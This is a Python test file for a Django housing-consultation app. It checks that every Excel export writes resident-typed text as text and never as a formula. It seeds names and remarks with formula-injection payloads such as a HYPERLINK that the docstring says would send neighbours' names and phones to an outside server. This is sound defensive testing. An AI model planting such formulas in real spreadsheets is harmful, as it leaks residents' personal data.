"""No workbook the product writes holds a live formula, whatever a resident or a clerk typed.

A name, a remark or a vote reason (which a resident can type on the public page) starting with ``=`` would
otherwise land in Excel as a formula: ``=HYPERLINK("http://…"&I2&J2, "详情")`` sends a neighbour's name and
phone to a stranger's server at a click. Every text cell must come back as the exact text, typed as text,
from openpyxl and from python-calamine alike, and the sheet XML must hold no ``<f>`` element at all.
"""

import io
import re
import zipfile

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from consultations.models import Vote
from retrofit import masking
from tests.factories import plan_for
from units.models import Building, Estate, Household, Unit

from .conftest import body

SUM = "=1+1"
LINK = '=HYPERLINK("http://x","y")'
# The rest of the CSV-injection family, and a word openpyxl would otherwise store as an error value.
PLUS, AT, MINUS, ERROR = "+1+1", "@SUM(1)", "-1+1", "#N/A"


@pytest.fixture
def planted(world):
    """world.unit with formulas in its estate, building and unit names and in owners, remarks and reasons."""
    Estate.objects.filter(pk=world.estate.pk).update(name=LINK)
    Building.objects.filter(pk=world.unit.building_id).update(number=SUM)
    Unit.objects.filter(pk=world.unit.pk).update(number="=2+2")
    owners = [SUM, LINK, PLUS, AT, MINUS, ERROR]
    for flat, owner in zip(world.flats, owners, strict=False):
        Household.objects.filter(pk=flat.pk).update(owner_name=owner, note=LINK)
    Vote.objects.filter(household=world.flats[8]).update(reason=LINK)  # the one opposing flat
    Vote.objects.filter(household=world.flats[11]).update(reason=SUM)
    plan_for(world.unit)
    world.owners = owners
    return world


def _sheet_xml(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]


def assert_no_formulas(data: bytes, expected: list[str]) -> None:
    """No formula cell anywhere, and every expected text found as that exact text in both readers."""
    for xml in _sheet_xml(data):
        assert not re.search(r"<f[ >]", xml), "a cell is written as a formula"
    book = load_workbook(io.BytesIO(data))
    texts = set()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", f"{ws.title}!{cell.coordinate} is typed {cell.data_type}"
                    texts.add(cell.value)
    calamine = CalamineWorkbook.from_filelike(io.BytesIO(data))
    read = {v for name in calamine.sheet_names for r in calamine.get_sheet_by_name(name).to_python() for v in r}
    for text in expected:
        assert text in texts, f"{text!r} not written as text"
        assert text in read, f"{text!r} not read back by calamine"


def test_the_unit_sheet_writes_text_as_text(client, planted):
    client.force_login(planted.users["staff"])
    data = body(client.get(reverse("unit_sheet_xlsx", args=[planted.unit.pk])))
    assert_no_formulas(data, [LINK, SUM, "=2+2", *planted.owners])


def test_the_masked_unit_sheet_writes_text_as_text(client, planted):
    client.force_login(planted.users["viewer"])
    data = body(client.get(reverse("unit_sheet_xlsx", args=[planted.unit.pk])))
    masked = [masking.mask_name(owner) for owner in planted.owners]
    assert "=***" in masked
    assert_no_formulas(data, [LINK, SUM, *masked])


@pytest.mark.parametrize("role", ["leader", "viewer"])
def test_the_progress_workbook_writes_text_as_text(client, planted, role):
    client.force_login(planted.users[role])
    response = client.get(reverse("progress_workbook", kwargs={"level": "street", "pk": planted.street.pk}))
    assert response.status_code == 200
    assert_no_formulas(body(response), [LINK, SUM, "=2+2"])


def test_the_progress_workbook_by_estate_names_its_sheet_safely(client, planted):
    """An estate's sheet is named after it: the name stays a title, and its cells stay text."""
    client.force_login(planted.users["staff"])
    response = client.get(reverse("progress_workbook", kwargs={"level": "estate", "pk": planted.estate.pk}))
    assert_no_formulas(body(response), [LINK, SUM])


def test_unit_status_xlsx_writes_text_as_text(planted, tmp_path):
    path = tmp_path / "status.xlsx"
    call_command("unit_status", format="xlsx", output=str(path))
    assert_no_formulas(path.read_bytes(), [LINK, SUM, "=2+2"])


@pytest.mark.parametrize("as_user", [None, "viewer"])
def test_export_units_writes_text_as_text(planted, tmp_path, as_user):
    path = tmp_path / "units.xlsx"
    options = ["--as-user", as_user] if as_user else []
    call_command(
        "export_units", "--unit", str(planted.unit.pk), "--format", "xlsx", "--output", str(path), *options,
        stdout=io.StringIO(),
    )
    owners = planted.owners if as_user is None else [masking.mask_name(o) for o in planted.owners]
    assert_no_formulas(path.read_bytes(), [LINK, SUM, *owners])


def test_the_ledger_template_holds_no_formula(client, world):
    client.force_login(world.users["staff"])
    data = client.get(reverse("import_template")).content
    assert_no_formulas(data, ["张三"])


def test_a_control_character_pasted_into_a_reason_does_not_break_the_export(client, planted):
    """Text pasted from Word can carry a vertical tab, which XML cannot hold: it is dropped, the rest kept."""
    Vote.objects.filter(household=planted.flats[8]).update(reason="电梯\x0b噪音=吵")
    client.force_login(planted.users["staff"])
    response = client.get(reverse("unit_sheet_xlsx", args=[planted.unit.pk]))
    assert response.status_code == 200
    assert_no_formulas(body(response), ["电梯噪音=吵"])


def test_a_control_character_in_a_name_does_not_break_the_progress_workbook(client, planted):
    """The streamed writer drops what XML cannot hold from a name, as from a reason, and keeps the rest."""
    Building.objects.filter(pk=planted.unit.building_id).update(number="1\x0b号=楼")
    client.force_login(planted.users["leader"])
    response = client.get(reverse("progress_workbook", kwargs={"level": "street", "pk": planted.street.pk}))
    assert response.status_code == 200
    assert_no_formulas(body(response), ["1号=楼"])
